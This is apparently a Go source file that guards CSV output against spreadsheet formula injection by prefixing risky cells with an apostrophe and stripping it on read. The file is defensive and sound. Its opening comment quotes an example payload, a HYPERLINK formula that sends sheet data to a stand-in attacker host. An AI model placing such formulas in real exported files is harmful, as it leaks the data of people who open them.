package table

// A spreadsheet that opens a CSV file runs a cell as a formula when it
// begins with "=", "+", "-" or "@", and some do so after a leading tab,
// carriage return or NUL ("CSV injection" or "formula injection", as
// OWASP and ASVS 1.2.10 describe it): a cell holding
// =HYPERLINK("http://evil.example/?x="&A1,"click") sends the sheet's data
// away. DefuseFormula writes such a cell with an apostrophe in front,
// which spreadsheets read as "this is text" and do not show, and
// RestoreFormula takes it off again, so that a reader of the library's
// own CSV gets every cell back exactly.

// isFormulaStart reports whether a cell beginning with c is read as a
// formula, or, for the apostrophe, would be mistaken for a defused one.
func isFormulaStart(c byte) bool {
	switch c {
	case '=', '+', '-', '@', '\t', '\r', 0, '\'':
		return true
	}
	return false
}

// DefuseFormula returns cell with an apostrophe in front when it begins
// with "=", "+", "-", "@", a tab, a carriage return, NUL or an
// apostrophe, and cell unchanged otherwise. RestoreFormula undoes it.
func DefuseFormula(cell string) string {
	if cell != "" && isFormulaStart(cell[0]) {
		return "'" + cell
	}
	return cell
}

// RestoreFormula undoes DefuseFormula: it removes the apostrophe in front
// of a cell whose next character is one that DefuseFormula defuses, and
// returns any other cell unchanged, so that a hand-written cell such as
// "'quoted'" is read as it is.
func RestoreFormula(cell string) string {
	if len(cell) >= 2 && cell[0] == '\'' && isFormulaStart(cell[1]) {
		return cell[1:]
	}
	return cell
}
